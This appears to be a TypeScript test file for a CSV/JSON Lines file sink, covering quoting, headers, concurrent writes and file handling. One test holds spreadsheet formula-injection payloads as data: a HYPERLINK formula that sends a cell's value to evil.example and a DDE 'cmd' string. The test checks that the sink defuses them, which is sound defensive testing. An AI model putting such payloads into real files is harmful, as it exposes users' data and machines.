import { mkdtemp, readFile, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { FileSink } from '../../src/sinks/file-sink';

describe('sinks > file', () => {
  let dir: string;
  beforeEach(async () => {
    dir = await mkdtemp(join(tmpdir(), 'dfp-sink-'));
  });

  it('appends CSV rows under one header across sinks, quoting where needed', async () => {
    const path = join(dir, 'out', 'd.csv');
    await new FileSink(path).write([{ user: 'a', loc: 'Austin, TX, US', z: 2.5, b: null }]);
    await new FileSink(path).write([{ user: 'b "x"', loc: null, z: 3, b: true }]);
    expect(await readFile(path, 'utf8')).toBe(
      'user,loc,z,b\na,"Austin, TX, US",2.5,\n"b ""x""",,3,true\n',
    );
  });

  it('writes made at once land in call order, under one header', async () => {
    const path = join(dir, 'c.csv');
    const sink = new FileSink(path);
    const rows = Array.from({ length: 5 }, (_, i) => ({ n: i }));
    await Promise.all(rows.map((row) => sink.write([row])));
    expect(await readFile(path, 'utf8')).toBe('n\n0\n1\n2\n3\n4\n');
    expect(sink.written).toBe(5);
  });

  it('defuses text a spreadsheet would run as a formula, but not numbers', async () => {
    const path = join(dir, 'f.csv');
    await new FileSink(path).write([
      { ua: '=HYPERLINK("http://evil.example/?"&A1,"x")', phone: '+44 7700 900898', z: -2.5 },
      { ua: "-2+3+cmd|' /C calc'!A0", phone: '@sum', z: 1 },
    ]);
    expect(await readFile(path, 'utf8')).toBe(
      'ua,phone,z\n' +
        `"'=HYPERLINK(""http://evil.example/?""&A1,""x"")",'+44 7700 900898,-2.5\n` +
        `'-2+3+cmd|' /C calc'!A0,'@sum,1\n`,
    );
  });

  it('never truncates: rows with other columns go to a numbered sibling', async () => {
    const path = join(dir, 'd.csv');
    await writeFile(path, 'other,header\n1,2\n');
    const sink = new FileSink(path);
    await sink.write([{ user: 'a' }]);
    expect(await readFile(path, 'utf8')).toBe('other,header\n1,2\n');
    expect(sink.currentPath).toBe(join(dir, 'd.1.csv'));
    expect(await readFile(join(dir, 'd.1.csv'), 'utf8')).toBe('user\na\n');
  });

  it('writes JSON Lines with null for missing values, never undefined', async () => {
    const path = join(dir, 'd.jsonl');
    await new FileSink(path).write([{ a: 1, b: undefined, c: null }]);
    await new FileSink(path).write([{ a: 2 }]);
    expect(await readFile(path, 'utf8')).toBe('{"a":1,"b":null,"c":null}\n{"a":2}\n');
  });

  it('refuses an unknown extension', () => {
    expect(() => new FileSink(join(dir, 'd.txt')).format).toThrow(/use .csv or .jsonl/);
  });
});
